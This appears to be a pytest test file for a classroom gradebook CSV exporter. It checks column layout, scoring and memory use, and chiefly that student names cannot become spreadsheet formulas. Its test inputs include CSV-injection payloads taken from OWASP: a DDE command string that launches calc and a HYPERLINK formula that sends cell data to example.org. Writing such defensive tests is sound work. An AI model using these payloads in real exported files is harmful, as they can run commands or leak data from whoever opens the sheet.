"""The gradebook: its columns, its numbers, and that no name becomes a formula."""

import csv
import itertools
import re
import tracemalloc

import pytest

from mlt_nn.support.catalogue import EXERCISES
from mlt_nn.teaching.classroom import gradebook
from mlt_nn.teaching.classroom.student import Student
from mlt_nn.teaching.pages.text import local_time

from .classes import HOSTILE, WHEN, grade, record, ungraded

BEST = sum(exercise.points for exercise in EXERCISES)


def read(path):
    with open(path, encoding="utf-8-sig", newline="") as stream:
        return list(csv.DictReader(stream))


@pytest.fixture
def rows_of(tmp_path):
    """The rows of the gradebook of these records, as dicts."""

    def rows(*records):
        gradebook.write(tmp_path / "gradebook.csv", records)
        return read(tmp_path / "gradebook.csv")

    return rows


def test_the_columns_are_those_of_nbgrader_and_one_for_each_exercise(tmp_path):
    gradebook.write(tmp_path / "gradebook.csv", [])
    data = (tmp_path / "gradebook.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbfassignment,"), "a spreadsheet needs the mark to know that this is UTF-8"
    head = "assignment,duedate,timestamp,student_id,last_name,first_name,email,raw_score,late_submission_penalty,score,"
    exercises = ",".join(exercise.name for exercise in EXERCISES)
    assert data.decode("utf-8-sig") == f"{head}max_score,{exercises},superseded,status,by hand\r\n"


def test_points_are_numbers(rows_of):
    (row,) = rows_of(record("Zoë Ångström", grade({"losses.one_hot": {"share": 0.75}})))
    assert (row["student_id"], row["timestamp"]) == ("Zoë Ångström", local_time(WHEN))
    assert float(row["losses.one_hot"]) == 1.5
    assert float(row["raw_score"]) == float(row["score"]) == BEST - 0.5
    assert float(row["max_score"]) == BEST
    assert float(row["late_submission_penalty"]) == 0


def test_what_is_open_is_empty_and_never_zero(rows_of):
    broken = grade({"losses.one_hot": {"state": "broken"}})
    lost, ours = rows_of(ungraded(), record(graded=broken))
    numbers = ["raw_score", "late_submission_penalty", "score"]
    assert {lost[name] for name in [*numbers, *(exercise.name for exercise in EXERCISES)]} == {""}
    assert [ours[name] for name in [*numbers, "losses.one_hot"]] == [""] * 4
    assert float(ours["losses.squared_error"]) == 2


def test_what_a_student_handed_in_wrong_is_zero(rows_of):
    (row,) = rows_of(record(graded=grade({each.name: {"state": "timed out"} for each in EXERCISES})))
    assert float(row["score"]) == float(row["neuron.neuron"]) == 0


# The first three characters and the last two lines are those of OWASP's page on CSV injection.
NAMES = [
    *("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\uff1d1", "\u200b=1"),
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"click")',
]


@pytest.mark.parametrize("name", NAMES)
def test_no_name_becomes_a_formula(rows_of, name):
    who = Student(name, first_name=name, last_name=name, email=name, student_id=name)
    row_of_name, row_of_roster = rows_of(record(name, grade()), record(who=who, graded=grade()))
    known = [row_of_roster[column] for column in ("student_id", "last_name", "first_name", "email")]
    for cell in (row_of_name["student_id"], *known):
        assert cell[0] not in "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
        assert name.strip().lstrip("\u200b") in cell, "the name is still there"


@pytest.mark.parametrize("name", ["Ada;=1+1", "Ada; -1", "a,b;=1", 'Ada;"=1+1', ";;@SUM(A1)", "Ada\t=1", "Ada;\uff1d1"])
@pytest.mark.parametrize("separator", [";", "\t"])
def test_no_name_becomes_a_formula_where_cells_are_separated_otherwise(tmp_path, name, separator):
    gradebook.write(tmp_path / "gradebook.csv", [record(name, grade())])
    text = (tmp_path / "gradebook.csv").read_text(encoding="utf-8-sig")
    _, row = csv.reader(text.splitlines(), delimiter=separator)
    assert not [cell for cell in row if re.match(r'[\s"]*[=+\-@\uff1d]', cell)]


def test_attempts_that_do_not_count_are_told_in_the_last_column(rows_of):
    why = "c.zip counts, for its name comes later"
    earlier = (("a.zip", why), ("=1+1.zip", why))
    ada, bob = rows_of(record("Ada", grade(), superseded=earlier), record("Bob", grade()))
    assert ada["superseded"] == f"a.zip: {why};' =1+1.zip: {why}"
    assert bob["superseded"] == ""


def test_a_cell_holds_no_more_than_a_spreadsheet_reads(rows_of):
    attempts = tuple((f"{'deep/' * 800}{number}.zip", "another counts") for number in range(9))
    (row,) = rows_of(record("Ada", grade(), superseded=attempts))
    assert len(row["superseded"]) < 32_767
    assert row["superseded"].endswith(" ... (9 in all)")


def test_hostile_names_stay_in_their_cell(rows_of):
    names = ["a,b", 'a"b', "a\r\nb", "a;b\tc", HOSTILE, "O'Neill", "李小龍"]
    rows = rows_of(*(record(name, grade()) for name in names))
    assert len(rows) == len(names)
    assert [row["student_id"] for row in rows[:4]] == ["a,b", 'a"b', "a b", "a;b c"]
    assert rows[5]["student_id"] == "O'Neill"
    assert {float(row["score"]) for row in rows} == {BEST}


def test_memory_does_not_grow_with_the_class(tmp_path):
    graded = grade()

    def peak(students):
        tracemalloc.start()
        gradebook.write(tmp_path / "gradebook.csv", (record(f"s{i}", graded) for i in range(students)))
        try:
            return tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    peak(1)  # what is loaded once
    # A row is about 200 bytes: were they kept, 2,000 of them would take 400 kB more.
    assert peak(2_100) - peak(100) < 100_000


def test_a_gradebook_is_replaced_as_a_whole_or_not_at_all(tmp_path):
    path = tmp_path / "gradebook.csv"
    gradebook.write(path, [record(graded=grade())])
    before = path.read_bytes()

    def records():
        yield from itertools.repeat(record(graded=grade()), 500)
        raise RuntimeError("the disk is full")

    with pytest.raises(RuntimeError, match="the disk is full"):
        gradebook.write(path, records())
    assert path.read_bytes() == before
    assert list(tmp_path.iterdir()) == [path]
